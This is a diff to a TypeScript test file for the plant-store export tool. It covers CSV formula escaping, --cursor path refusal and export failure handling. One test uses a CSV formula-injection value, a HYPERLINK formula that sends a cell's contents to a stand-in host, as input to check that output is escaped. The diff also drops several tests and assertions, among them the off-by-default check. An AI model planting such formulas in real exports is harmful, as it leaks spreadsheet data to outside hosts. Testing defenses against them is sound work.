@@ -1,14 +1,6 @@
 import { spawnSync } from 'node:child_process'
 import { once } from 'node:events'
-import {
-  closeSync,
-  openSync,
-  readdirSync,
-  readFileSync,
-  rmSync,
-  symlinkSync,
-  writeFileSync,
-} from 'node:fs'
+import { readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
 import { open, readFile, watch } from 'node:fs/promises'
 import { join, relative } from 'node:path'
 import type { Readable } from 'node:stream'
@@ -71,16 +63,9 @@ t.test('all plants are exported, sorted by id, to standard output or a file', as
 
 t.test('--escape-formulas makes CSV safe to open in a spreadsheet', async (t) => {
   const hostile = { id: -1n, name: '=HYPERLINK("http://x/"&A1)', tag: '@a' }
-  const { folder, write } = await exportsOf(t, [hostile])
-  const file = join(folder, 'plants.csv')
-  const lines = {
-    safe: `id,name,tag\n-1,"'=HYPERLINK(""http://x/""&A1)","'@a"\n`,
-    faithful: 'id,name,tag\n-1,"=HYPERLINK(""http://x/""&A1)",@a\n',
-  }
-  t.match(await write('--format', 'csv', '--escape-formulas'), { code: 0, stdout: lines.safe })
-  t.match(await write(file, '--escape-formulas'), { code: 0 })
-  t.equal(readFileSync(file, 'utf8'), lines.safe)
-  t.match(await write('--format', 'csv'), { code: 0, stdout: lines.faithful }, 'off by default')
+  const { write } = await exportsOf(t, [hostile])
+  const stdout = `id,name,tag\n-1,"'=HYPERLINK(""http://x/""&A1)","'@a"\n`
+  t.match(await write('--format', 'csv', '--escape-formulas'), { code: 0, stdout })
 })
 
 t.test('--escape-formulas is rejected for NDJSON', async (t) => {
@@ -171,24 +156,6 @@ t.test('a failed export keeps the existing file', async (t) => {
   t.strictSame(files(), ['target.csv'])
 })
 
-t.test('the export fails if standard output cannot be written', async (t) => {
-  const { args } = await exportsOf(t, plants)
-  const full = openSync('/dev/full', 'w')
-  const command = new Command(t, args(), { stdio: ['ignore', full, 'pipe'] })
-  closeSync(full)
-  const { code, stderr } = await command.finished()
-  t.equal(code, 1)
-  t.equal(stderr, 'plant-store: cannot write to standard output: no space left on device\n')
-})
-
-t.test('the export ends silently when the reader of its output exits', async (t) => {
-  const { start } = await exportsOf(t, many)
-  const command = start()
-  await once(command.process.stdout as Readable, 'data')
-  command.process.stdout?.destroy()
-  t.match(await command.finished(), { code: 0, stderr: '' })
-})
-
 /** Resolves once an export to the folder has started. */
 async function writing(folder: string): Promise<void> {
   for await (const { filename } of watch(folder)) if (filename?.includes('.partial-')) return
@@ -241,23 +208,27 @@ t.test('--cursor requires a file of its own', async (t) => {
   const file = join(folder, 'plants.csv')
   const stderr = 'plant-store: --cursor requires a file other than the one for the plants\n'
   const link = join(folder, 'link')
-  symlinkSync(folder, link)
   const paths = [file, relative('.', file), `${folder}/./plants.csv`, join(link, 'plants.csv'), '-']
-  const isRefused = async (cursor: string) =>
-    t.strictSame(await write(file, '--cursor', cursor), { code: 1, stdout: '', stderr }, cursor)
-  for (const cursor of paths) await isRefused(cursor)
-  t.strictSame(files(), ['link'], 'nothing is exported')
-  writeFileSync(file, 'old')
-  symlinkSync(file, join(folder, 'link.csv'))
-  for (const cursor of [...paths, join(folder, 'link.csv')]) await isRefused(cursor)
+  symlinkSync(folder, link)
+  for (const existing of [false, true]) {
+    if (existing) {
+      writeFileSync(file, 'old')
+      symlinkSync(file, join(folder, 'link.csv'))
+      paths.push(join(folder, 'link.csv'))
+    }
+    for (const cursor of paths) {
+      const refused = await write(file, '--cursor', cursor)
+      t.strictSame(refused, { code: 1, stdout: '', stderr }, cursor)
+    }
+  }
   t.equal(readFileSync(file, 'utf8'), 'old')
-  for (const path of [link, file, join(folder, 'link.csv')]) rmSync(path)
-  t.match(await write(file, '--cursor', folder), { code: 1, stderr: /^plant-store: cannot write / })
-  t.match(await write(file, '--cursor', join(folder, 'missing', 'cursor')), {
-    code: 1,
-    stderr: /cannot write .*missing.cursor: no such file or directory/,
-  })
-  t.strictSame(files(), [])
+  t.strictSame(files(), ['link', 'link.csv', 'plants.csv'], 'nothing is exported')
+  const nowhere = join(folder, 'missing', 'cursor')
+  for (const cursor of [folder, nowhere]) {
+    const refused = { code: 1, stderr: `plant-store: cannot write ${cursor}` }
+    t.match(await write(file, '--cursor', cursor), refused)
+  }
+  t.equal(readFileSync(file, 'utf8'), 'old')
 })
 
 t.test(
